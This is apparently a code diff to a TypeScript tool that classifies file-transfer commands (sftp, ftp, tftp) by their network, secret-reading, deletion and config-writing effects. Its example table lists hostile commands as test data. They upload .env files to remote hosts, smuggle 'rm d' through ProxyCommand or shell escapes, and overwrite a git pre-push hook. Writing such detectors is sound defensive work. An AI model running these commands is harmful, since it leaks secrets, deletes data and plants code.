@@ -1,12 +1,12 @@
-import { shellText } from '../carried.ts';
+import { shellText, wordAfter } from '../carried.ts';
 import { data, effect, exec, type Finding, type Invocation, network, type Program, role, rows } from '../program.ts';
 import { contacts, credentialsIn, reads, talksTo, writes } from '../roles.ts';
-import type { Word } from '../word.ts';
+import { constant, type Word } from '../word.ts';
 import { sshOptions } from './connections.ts';
 
 /** Programs that copy files between machines, and send mail. */
 export const transfers: readonly Program[] = [
-	rows('scp sftp', {
+	rows('scp', {
 		options: {
 			...data('-P -l -c -J -o -X -R -s -B'),
 			...role('read', '-i'),
@@ -46,12 +46,28 @@ export const transfers: readonly Program[] = [
 			'rclone purge remote:b': ['network a cloud', 'exec rclone', 'destroy a remote tree by rclone'],
 		},
 	}),
+	rows('sftp', {
+		options: {
+			...data('-P -l -c -J -o -X -R -s -B'),
+			...role('read', '-i'),
+			...role('script', '-F -b'),
+			...role('shell', '-S -D'),
+		},
+		also: (it) => [...sessions(it), ...sshOptions(it)],
+		examples: {
+			'sftp host': ['network host'],
+			"sftp a@host <<< 'put .env'": ['network host', 'secret.read .env'],
+			"sftp -o ProxyCommand='rm d' host": ['network host', 'opaque', 'delete d'],
+		},
+	}),
 	rows('ftp lftp ncftp tftp atftp', {
 		options: { ...data('-P -u -p'), ...role('data', '-e -c'), ...role('script', '-f') },
 		also: sessions,
 		examples: {
 			'ftp e.example': ['network e.example'],
 			"lftp -c '!rm d' e.example": ['network e.example', 'delete d'],
+			"ftp -n e.example <<< 'get a .git/hooks/pre-push'": ['network e.example', 'config.write .git/hooks/pre-push'],
+			'tftp e.example -c put .env': ['network e.example', 'secret.read .env'],
 			"echo '!rm d' | ftp e.example": ['network e.example', 'delete d'],
 		},
 	}),
@@ -70,7 +86,6 @@ function transferred(it: Invocation): readonly Finding[] {
 	const findings = it.operands.flatMap((word) => {
 		const host = /^(?:(?:rsync|scp|sftp):\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^/:]+):/.exec(word.text)?.[1];
 		if (host !== undefined) return talksTo(host);
-		if (it.name === 'sftp') return talksTo(word.text.replace(/^.*@/, ''));
 		return word === target ? writes(word, it.scope) : reads(word, it.scope);
 	});
 	const hosts = findings.filter((finding) => finding.find === 'effect' && finding.effect.kind === 'network');
@@ -114,9 +129,24 @@ function cloudCopy(it: Invocation): readonly Finding[] {
 	return [network('a cloud'), exec(it), ...read, ...written, ...purges];
 }
 
-/** A line of a session that begins with `!` goes to a shell. */
+/** Lines that are typed into a session: `!` goes to a shell, files are sent and fetched. */
 function sessions(it: Invocation): readonly Finding[] {
-	const script = [...it.values('-e', '-c').map((word) => word.text), it.stdin?.text ?? ''].join('\n');
-	const escapes = script.split(/[\n;]/).flatMap((line) => /^\s*!(.+)/.exec(line)?.[1] ?? []);
-	return [...it.operands.slice(0, 1).flatMap((word) => contacts(word, it.scope)), ...escapes.map(shellText)];
+	const command = it.name.includes('tftp') ? it.words.slice(it.words.findIndex((word) => word.text === '-c') + 1) : [];
+	const script = [...it.values('-e', '-c'), constant(command.map((word) => word.text).join(' '))].map(
+		(word) => word.text,
+	);
+	const lines = [...script, it.stdin?.text ?? ''].join('\n').split(/[\n;]/);
+	const hosts = it.operands
+		.slice(0, 1)
+		.flatMap((word) => contacts(wordAfter(word, word.text.indexOf('@') + 1), it.scope));
+	return [...hosts, ...lines.flatMap((line) => sessionLine(line.trim(), it))];
+}
+
+function sessionLine(line: string, it: Invocation): readonly Finding[] {
+	if (line.startsWith('!')) return [shellText(line.slice(1))];
+	const [verb = '', ...files] = line.split(/\s+/).filter((word) => !/^-./.test(word));
+	const [first, second] = files.map(constant);
+	if (/^(m?put|send|append|reput)$/i.test(verb) && first !== undefined) return reads(first, it.scope);
+	if (!/^(m?get|recv|reget)$/i.test(verb) || first === undefined) return [];
+	return writes(second ?? constant(first.text.replace(/^.*\//, '')), it.scope);
 }
